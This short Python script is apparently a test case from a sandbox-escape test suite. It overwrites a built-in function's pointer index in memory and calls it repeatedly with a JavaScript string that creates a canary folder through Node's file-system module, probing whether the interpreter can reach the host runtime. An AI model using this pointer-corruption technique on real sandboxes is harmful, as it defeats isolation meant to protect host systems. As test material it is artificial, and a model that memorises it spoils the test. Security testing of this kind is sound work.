# Goal: call the first entries of the function table by index, through a built-in function whose pointer was changed.
# helper: memory
# canary: folder exit
# expect: error crashed ok timeout
import math

method = word(id(math.isnan) + 8)
text = f"process.getBuiltinModule('fs').mkdirSync('{canary['folder']}/{canary['token']}')".encode()
for index in range(1, 400):
    memory[method + 4 : method + 8] = struct.pack("<I", index)
    try:
        math.isnan(text)
    except Exception:
        pass
